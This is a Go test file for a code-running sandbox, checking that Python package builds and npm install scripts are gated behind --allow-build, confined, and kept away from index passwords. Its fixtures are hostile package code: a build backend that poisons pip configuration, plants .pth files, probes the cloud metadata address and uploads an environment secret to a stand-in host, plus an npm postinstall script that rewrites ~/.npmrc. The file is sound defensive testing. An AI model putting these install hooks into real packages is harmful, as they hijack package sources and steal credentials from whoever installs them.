package main

import (
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// hostileBackend builds a wheel of one module, which reports what its build could do to the host, the network and later
// installations.
const hostileBackend = `
import base64, os, site, socket, urllib.request, zipfile

def tried(act):
    try:
        act()
        return True
    except OSError:
        return False

def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write("[global]\nindex-url = http://else.test/simple\n")

def upload():
    held = os.environ.get("FUMEHOOD_INDEX_SECRET")
    if not held:
        raise OSError
    r = urllib.request.Request("https://example.com/upload", b"evil", method="PUT")
    r.add_header("Authorization", "Basic " + base64.b64encode(("reader:" + held).encode()).decode())
    urllib.request.urlopen(r)

def build_wheel(folder, *_):
    could = [what for what, act in {
        "write to the host": lambda: open(%q, "w"),
        "write to the system": lambda: write("/usr/lib/python3/dist-packages/evil.pth"),
        "reach another name": lambda: socket.create_connection(("else.test", 80), 2),
        "reach another address": lambda: socket.create_connection(("93.184.215.15", 80), 2),
        "reach the metadata": lambda: socket.create_connection(("169.254.169.254", 80), 2),
        "reach another port": lambda: socket.create_connection(("index.test", 443), 2),
        "upload": upload,
        "poison": lambda: [write(os.path.expanduser(p)) for p in ("~/.config/pip/pip.conf", "~/.cache/pip/http/x", "~/evil", "/tmp/evil", "/workspace/layer/evil.pth")],
    }.items() if tried(act)]
    info = "glvbuilt-1.0.dist-info/"
    with zipfile.ZipFile(folder + "/glvbuilt-1.0-py3-none-any.whl", "w") as z:
        z.writestr("glvbuilt.py", "could, environ = %%r, %%r" %% (could, dict(os.environ)))
        z.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: glvbuilt\nVersion: 1.0\n")
        z.writestr(info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(info + "RECORD", "")
    return "glvbuilt-1.0-py3-none-any.whl"
`

// TestPackagesBuild: code of a Python package runs during installation only if --allow-build is given, and only in the
// installer's sandbox. Only the layer outlives that sandbox.
func TestPackagesBuild(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIPPED, NOT TESTED: pip takes seconds to build")
	}
	isPackagesReady(t, pipFile)
	i, cache, canary := newIndex(t), t.TempDir(), filepath.Join(t.TempDir(), "canary")
	i.sdist("glvbuilt", fmt.Sprintf(hostileBackend, canary))
	i.wheel("glvgood", "1.0", "value = 42", "")
	const code = "import glvbuilt; print(glvbuilt.could); print('TOKEN' in glvbuilt.environ)"
	args := []string{"run", "-e", "TOKEN=x", "-p", "glvbuilt", "-c", code}
	if _, errs := i.run(cache, 125, args...); !strings.Contains(errs, "as none is built for this interpreter: --allow-build") ||
		i.downloads("glvbuilt") > 0 {
		t.Errorf("%d downloads, %s", i.downloads("glvbuilt"), errs)
	}
	out, _ := i.run(cache, 0, append([]string{"run", "--allow-build"}, args[1:]...)...)
	if out != "['poison']\nFalse\n" {
		t.Errorf("%s", out)
	}
	if _, err := os.Stat(canary); err == nil {
		t.Error("it wrote to the host")
	}
	if _, errs := i.run(cache, 125, args...); !strings.Contains(errs, "--allow-build") {
		t.Errorf("what was built for one is given to all: %s", errs)
	}
	const look = "import glvgood, os; print(sorted(os.listdir('/opt/fumehood/python')), os.path.exists('/tmp/evil'))"
	if out, _ := i.run(cache, 0, "run", "-p", "glvgood", "--allow-build", "-c",
		look); out != "['glvgood', 'glvgood-1.0.dist-info'] False\n" {
		t.Errorf("the next installation: %s", out)
	}
	i.isAlone()
}

// hostileScript is an npm script that reports what it could do.
const hostileScript = `
const fs = require("fs"), net = require("net"), os = require("os");
const reach = (host, port) => new Promise((done) => {
  const s = net.connect({host, port, timeout: 2000}, () => done(host)).on("error", () => done("")).on("timeout", () => s.destroy(new Error("late")));
});
Promise.all([reach("else.test", 80), reach("169.254.169.254", 80), reach("93.184.215.15", 80)]).then((reached) => {
  fs.appendFileSync(os.homedir() + "/.npmrc", "registry=http://else.test/\n");
  fs.writeFileSync("could.js", "module.exports = " + JSON.stringify(reached.filter(Boolean)));
  process.exit();
});
`

// TestPackagesScripts is TestPackagesBuild for install scripts of npm.
func TestPackagesScripts(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIPPED, NOT TESTED: npm takes seconds")
	}
	isPackagesReady(t, npmFile)
	i, cache := newIndex(t), t.TempDir()
	i.pack("glvscript", "1.0.0", map[string]string{"index.js": "try { module.exports = require('./could.js') } catch { module.exports = 'no script ran' }", "evil.js": hostileScript},
		map[string]string{"postinstall": "node evil.js"})
	for _, c := range []struct{ flag, want string }{{"--allow-build=false", "no script ran\n"}, {"--allow-build",
		"[]\n"}, {"--allow-build=false", "no script ran\n"}} {
		if out, _ := i.run(cache, 0, "run", c.flag, "-l", "js", "-p", "auto", "-c",
			"console.log(require('glvscript'))"); out != c.want {
			t.Errorf("%s: %s", c.flag, out)
		}
	}
	i.isAlone()
}

const indexPassword = "canary-5b0e77-password"

// TestPackagesPassword: the password of an index comes from a variable or the configuration and reaches only the index:
// not the installer, where code of packages runs, nor the run, the answers or the cache.
func TestPackagesPassword(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIPPED, NOT TESTED: package deps has the same without sandboxes")
	}
	isPackagesReady(t, pipFile, npmFile)
	i, cache := newLockedIndex(t, indexPassword), t.TempDir()
	i.flags = nil
	const python, javascript = "python=https://reader:" + indexPassword + "@example.com/simple",
		"javascript=https://reader:" + indexPassword + "@example.com/"
	i.sdist("glvbuilt", fmt.Sprintf(hostileBackend, "/none"))
	i.tarball("glvjs", "1.0.0", "module.exports = 42")
	i.does("/upload", func(http.ResponseWriter, *http.Request) { t.Error("code of a package can change the index") })
	var said []string
	run := func(args ...string) string {
		t.Helper()
		out, errs := i.run(cache, 0, args...)
		said = append(said, out, errs)
		return out
	}
	i.env = []string{"FUMEHOOD_PACKAGE_INDEX=" + python + "," + javascript}
	const look = "import glvbuilt, os, subprocess; print(glvbuilt.environ, dict(os.environ)); print(subprocess.run(\"grep -l 'canary[-]' -r /proc/self/environ /opt/fumehood\", shell=True, stdout=-1).stdout)"
	if out := run("run", "--verbose", "--json", "--allow-build", "-p", "auto", "-c", look); !strings.Contains(out,
		"fumehood_placeholder_") || !strings.Contains(out, `b''`) {
		t.Errorf("%s", out)
	}
	if out := run("run", "--verbose", "-l", "js", "-p", "auto", "-c", "console.log(require('glvjs'))"); out != "42\n" {
		t.Errorf("%s", out)
	}
	config := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(config, []byte("package_index = ['"+python+"', '"+javascript+"']"), 0o600); err != nil {
		t.Fatal(err)
	}
	i.env = []string{"FUMEHOOD_CONFIG=" + config}
	i.wheel("glvlate", "1.0", "", "")
	file := filepath.Join(t.TempDir(), "a.py")
	if err := os.WriteFile(file, []byte("import glvlate"), 0o600); err != nil {
		t.Fatal(err)
	}
	if lock := run("deps", "lock", file); !strings.HasPrefix(lock, "glvlate==1.0 --hash=") {
		t.Errorf("%s", lock)
	}
	run("deps", "ls", "--json")
	i.isAlone()
	const odd = "pat-0123456789abcdef/4567+89=" // its placeholder has these characters, too
	i.wants(odd)
	i.env = []string{"FUMEHOOD_PACKAGE_INDEX=python=https://reader:" + url.QueryEscape(odd) + "@example.com/simple"}
	if _, errs := i.run(t.TempDir(), 0, "run", "-p", "glvlate", "-c", "import glvlate"); strings.Contains(errs, odd) {
		t.Errorf("%s", errs)
	}
	i.env = []string{"FUMEHOOD_CONFIG=" + config}
	i.wants("another")
	for _, c := range [][]string{{"-p", "glvlate>=1", "-c", "1"}, {"-l", "js", "-p", "glvjs@1", "-c", "1"}} {
		_, errs := i.run(t.TempDir(), 125, append([]string{"run"}, c...)...)
		if said = append(said, errs); !strings.Contains(errs,
			"fix: give the name and the password that the index requires") {
			t.Errorf("%s", errs)
		}
	}
	if slices.ContainsFunc(said, func(text string) bool { return strings.Contains(text, indexPassword) }) {
		t.Error("an answer has the password")
	}
	err := filepath.WalkDir(cache, func(path string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if text, err := os.ReadFile(path); err != nil || strings.Contains(string(text), indexPassword) {
				t.Errorf("%s: %v, or it has the password", path, err)
			}
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

// TestNoPackages: with --no-packages, or the same in the configuration, neither requests nor lines of code install
// packages.
func TestNoPackages(t *testing.T) {
	config := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(config, []byte("no_packages = true"), 0o600); err != nil {
		t.Fatal(err)
	}
	for n, flags := range [][]string{{"--no-packages"}, {"--config", config}} {
		i := newIndex(t)
		s := startServerWith(t, func(m *Main) { m.Gate = i.gate }, append(slices.Concat(i.flags, flags), "--backend",
			"native", "--allow-unenforced", "memory")...)
		for _, packages := range []string{`"packages": ["auto"]`, `"packages": ["glvx"]`, `"lock": "glvx==1\n"`} {
			status, answer := s.post(t, "/v1/run", `{"language": "python", "code": "import glvx", `+packages+`, `+
				weaker+`}`)
			if status != 422 || answer["detail"] != "packages: packages are not installed here" {
				t.Errorf("%s: %d %v", packages, status, answer)
			}
		}
		if n == 0 && !testing.Short() {
			noPackagesInSandbox(t, &commands{t, s.url})
		}
		if len(i.asked) > 0 {
			t.Errorf("the index was asked for %v", i.asked)
		}
	}
}

func noPackagesInSandbox(t *testing.T, c *commands) {
	isNetworkReady(t)
	c.run(0, "", "create", "--name", "a")
	c.fails("packages: packages are not installed here", "use what is installed", "run", "--in", "a", "-p", "glvx",
		"-c",
		"1")
	if _, errs := c.run(1, "", "run", "--in", "a", "-c", "%pip install glvx\nimport glvx"); strings.Contains(errs,
		"--packages") {
		t.Errorf("%s", errs)
	}
	c.run(0, "", "rm", "a")
}
